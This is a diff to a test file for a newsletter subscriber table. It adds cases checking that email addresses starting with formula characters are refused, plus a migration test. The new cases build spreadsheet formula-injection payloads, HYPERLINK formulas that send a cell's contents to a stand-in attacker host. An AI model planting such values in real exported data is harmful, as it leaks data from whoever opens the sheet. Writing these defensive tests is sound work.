@@ -6,12 +6,15 @@ import { shippedSiteSettings } from "../../src/content/site-settings";
 import type { Queryable } from "../local/db/database";
 import { admin, anon, serviceRole, visitor } from "./support/actors";
 import {
+  applyFiles,
   attempt,
   backends,
   expectNoRowAffected,
   expectOwnerRefused,
   expectRefused,
   inRolledBackTransaction,
+  openEmptyDatabase,
+  splitAtMigration,
   succeeded,
   useSeededDatabase,
 } from "./support/database";
@@ -281,6 +284,12 @@ describe.each(backends)("%s", (backend) => {
       ["an oversized address", `${"a".repeat(250)}@example.com`, "/"],
       ["a source that is not a path", "reader@example.com", "https://evil.example/"],
       ["an oversized source path", "reader@example.com", `/${"a".repeat(200)}`],
+      ...["=", "+", "-", "@", "\t", "\r"].map((start): [string, string, string] => [
+        `an address a spreadsheet would run (${JSON.stringify(start)}...)`,
+        `${start}HYPERLINK("https://evil.example/?"&A3,"x@y.z")`,
+        "/",
+      ]),
+      ["a formula that passes the address pattern", "=1+1@example.com", "/"],
     ];
     for (const [what, email, sourcePath] of invalid) {
       test(
@@ -291,6 +300,28 @@ describe.each(backends)("%s", (backend) => {
         }),
       );
     }
+
+    test("a project whose list already holds a formula-like address still migrates; the rule holds for every new row", async () => {
+      const handle = await openEmptyDatabase(backend);
+      try {
+        const { before, migration, after } = await splitAtMigration(
+          "_subscriber_email_not_a_formula.sql",
+        );
+        await applyFiles(handle.db, before);
+        await handle.db.exec(
+          "insert into public.newsletter_subscribers (email, source_path) values ('=1+1@example.com', '/')",
+        );
+        await applyFiles(handle.db, [migration, ...after]);
+        expect(await subscriberEmails(handle.db)).toEqual(["=1+1@example.com"]);
+        await expect(
+          handle.db.query(
+            "insert into public.newsletter_subscribers (email, source_path) values ('+1@example.com', '/')",
+          ),
+        ).rejects.toMatchObject({ code: "23514" });
+      } finally {
+        await handle.dispose();
+      }
+    });
 
     describe("with two subscribers", () => {
       const withSubscribers = (fn: (tx: Queryable) => Promise<void>) =>
